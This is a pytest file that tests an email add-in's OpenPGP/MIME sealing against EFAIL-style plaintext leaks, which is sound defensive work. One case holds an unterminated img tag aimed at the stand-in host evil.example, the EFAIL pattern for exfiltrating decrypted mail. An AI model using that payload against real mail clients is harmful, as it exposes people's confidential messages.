"""C8. 2018, EFAIL: mails of which only a part was encrypted gave the plaintext to whoever asked.

What we send has one encrypted part and nothing around it, and every byte of it comes back.
"""

import subprocess
from collections.abc import Callable
from datetime import UTC, datetime
from email import message_from_string, policy

import pytest

from addin_service.sealing.inline import inline_text
from addin_service.sealing.mime import Content, File, encrypted_entity, outer, payload
from tests.sealing.conftest import READER
from tests.sealing.reading import read

ANN = ("ann.lee@council.example", "Annelise Leonora")
TAN = (READER, "Priyanka Tanderley")
JOE = ("joe@stoke.example", "Josephine Stokeley")
DATE = datetime(2026, 11, 23, 15, 4, 5, tzinfo=UTC)
SUBJECT = "Stokeclaim confidential"
TEXT = "Settlement figure: fortytwothousand\n"
HTML = "<p>Settlement figure: <b>fortytwothousand</b></p>"
DOT = "data:image/png;base64,iVBORw0KGgpmb3J0eXR3b3Rob3VzYW5k"
PDF = File("settlementfigure.pdf", "application/pdf", b"%PDF-1.7 fortytwothousand")
CASES = {
    "text": Content(ANN, (TAN,), (), SUBJECT, TEXT),
    "html": Content(ANN, (TAN,), (), SUBJECT, "", HTML),
    "both": Content(ANN, (TAN,), (), SUBJECT, TEXT, HTML),
    "picture in the html": Content(ANN, (TAN,), (), SUBJECT, TEXT, f'{HTML}<img src="{DOT}">'),
    "picture beside the html": Content(
        ANN, (TAN,), (), SUBJECT, TEXT, f'{HTML}<img src="cid:a@b">',
        (File("settlementfigure.png", "image/png", b"\x89PNG", "a@b", inline=True),),
    ),
    "a file": Content(ANN, (TAN,), (), SUBJECT, TEXT, "", (PDF,)),
    "everything": Content(
        ANN, (TAN, JOE), (JOE,), SUBJECT, TEXT, f'{HTML}<img src="{DOT}">', (PDF, PDF)
    ),
    "two readers": Content(ANN, (TAN, JOE), (), SUBJECT, TEXT),
    "a copy": Content(ANN, (TAN,), (JOE,), SUBJECT, TEXT),
    "nobody in To": Content(ANN, (), (), SUBJECT, TEXT),
    "no subject": Content(ANN, (TAN,), (), "", TEXT),
    "no words": Content(ANN, (TAN,), (), SUBJECT, ""),
    "nothing at all": Content(ANN),
    "a subject of many words": Content(ANN, (TAN,), (), SUBJECT * 40, TEXT),
    "other letters": Content(
        (ANN[0], "Ännelise"), ((TAN[0], "Прия"),), (), "Vergleich über Straße", "Größe 日本語\n", "",
        (File("Vergleichsbetrag über.pdf", "application/pdf", b"x"),),
    ),
    "a mail as a file": Content(
        ANN, (TAN,), (), SUBJECT, TEXT, "",
        (File("fwd.eml", "message/rfc822", b"Subject: fortytwothousand\r\n\r\nx\r\n"),),
    ),
    "an empty file": Content(
        ANN, (TAN,), (), SUBJECT, TEXT, "", (File("settlementfigure", "", b""),)
    ),
    "armor as text": Content(
        ANN, (TAN,), (), SUBJECT,
        "-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\nfortytwothousand\n",
    ),
    "html that would fetch what follows": Content(
        ANN, (TAN,), (), SUBJECT, "", '<img src="https://evil.example/?'
    ),
    "lines that look like an end": Content(
        ANN, (TAN,), (), SUBJECT, "--\r\n--x--\r\n\r\n.\r\n\rfortytwothousand \t\n\n\n"
    ),
}  # fmt: skip
SECRETS = (
    "stokeclaim", "settlement", "fortytwo", "annelise", "leonora", "priyanka", "tanderley",
    "josephine", "stokeley", "vergleich", "text/", "multipart/mixed", "alternative", "%pdf", "png",
)  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_one_encrypted_part_and_nothing_around_it(
    name: str, sealed: Callable[[bytes], bytes], gpg: Callable[..., bytes]
) -> None:
    content = CASES[name]
    plain = payload(content, DATE)
    armored = sealed(plain)
    entity = encrypted_entity(armored)

    whole = message_from_string(entity, policy=policy.default)
    assert whole.get_content_type() == "multipart/encrypted"
    assert whole["content-type"].params["protocol"] == "application/pgp-encrypted"
    assert list(whole) == ["Content-Type"]
    version, data = whole.iter_parts()
    assert not whole.preamble
    assert not whole.epilogue
    assert not [part.defects for part in whole.walk() if part.defects]
    assert version.get_content_type() == "application/pgp-encrypted"
    assert "content-transfer-encoding" not in version
    assert str(version.get_payload()).split() == ["Version:", "1"]
    assert data.get_content_type() == "application/octet-stream"
    assert data.get_filename() == "encrypted.asc"
    inside = str(data.get_payload())
    assert inside.replace("\r\n", "\n").strip() == armored.decode("ascii").strip()

    assert entity.isascii()
    assert "\n" not in entity.replace("\r\n", "")
    assert max(map(len, entity.split("\r\n"))) <= 78
    assert encrypted_entity(armored) == entity
    outside = entity.replace(inside, "") + repr(outer(content, DATE))
    assert not [secret for secret in SECRETS if secret in outside.lower()]

    packets = gpg("--list-packets", given=inside.encode())
    data_packets = packets.count(b":encrypted data packet:") + packets.count(b":aead encrypted")
    assert data_packets == 1
    assert b"mdc_method: 2" in packets or b":aead encrypted" in packets
    assert packets.count(b":pubkey enc packet:") == 1

    opened = gpg("--decrypt", given=inside.encode("ascii"))
    assert opened == plain
    found = read(opened)
    assert found.root["subject"].split() == content.subject.split()
    assert len(found.files) + len(found.pictures) >= len(content.files)


def test_text_alone_comes_back_as_it_was(
    sealed: Callable[[bytes], bytes], gpg: Callable[..., bytes]
) -> None:
    plain = inline_text("Größe\n.\n-- \nAnn")
    assert gpg("--decrypt", given=sealed(plain)) == plain


@pytest.mark.parametrize(
    "armored",
    [
        b"",
        b"Hello",
        b"-----BEGIN PGP MESSAGE-----\n\n-----END PGP MESSAGE-----\n",
        b"Hello\n-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\n",
        b"-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\nHello\n",
        b"-----BEGIN PGP MESSAGE-----\nComment: Stoke\n\nAAAA\n-----END PGP MESSAGE-----\n",
        b"-----BEGIN PGP MESSAGE-----\n\nAAAA\n\n--x--\n-----END PGP MESSAGE-----\n",
        b"-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\n" * 2,
        b"-----BEGIN PGP SIGNED MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\n",
        b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nAAAA\n-----END PGP PUBLIC KEY BLOCK-----\n",
        b"-----BEGIN PGP MESSAGE-----\n\nAAAA\n",
        "-----BEGIN PGP MESSAGE-----\n\nÄÄÄÄ\n-----END PGP MESSAGE-----\n".encode(),
        b"\x85\x01\x0c\x03binary",
    ],
    ids=range(13),
)
def test_nothing_else_is_ever_sent_as_sealed(armored: bytes) -> None:
    with pytest.raises(ValueError, match="not one armored OpenPGP message"):
        encrypted_entity(armored)


def test_armor_with_any_line_end_gives_the_same_parts() -> None:
    unix = b"-----BEGIN PGP MESSAGE-----\n\nAAAA\n=AAAA\n-----END PGP MESSAGE-----\n"
    expected = unix.replace(b"\n", b"\r\n").decode()
    for armored in (unix, unix.rstrip(), unix.replace(b"\n", b"\r\n")):
        entity = encrypted_entity(armored)
        assert entity.count(expected) == 1
        assert entity.split(expected)[1].startswith("--sealed-")


def test_gpg_is_the_one_that_decides(gpg: Callable[..., bytes]) -> None:
    """A damaged entity does not open: the packet is protected against changes."""
    armored = gpg("--armor", "-r", READER, "--encrypt", given=payload(CASES["text"], DATE))
    lines = armored.split(b"\n")
    middle = len(lines) // 2
    lines[middle] = lines[middle][::-1]
    with pytest.raises(subprocess.CalledProcessError):
        gpg("--decrypt", given=b"\n".join(lines))
